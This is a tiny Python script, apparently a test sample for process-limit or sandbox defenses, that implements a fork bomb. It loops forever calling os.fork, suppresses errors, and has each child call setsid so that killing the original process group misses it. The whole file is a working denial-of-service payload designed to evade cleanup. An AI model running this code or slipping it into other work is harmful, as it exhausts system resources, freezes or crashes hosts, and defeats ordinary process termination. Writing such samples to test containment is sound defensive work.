"""Fork forever; every child leaves the process group (setsid) so that killing the group
alone would miss it, then forks too."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.setsid()
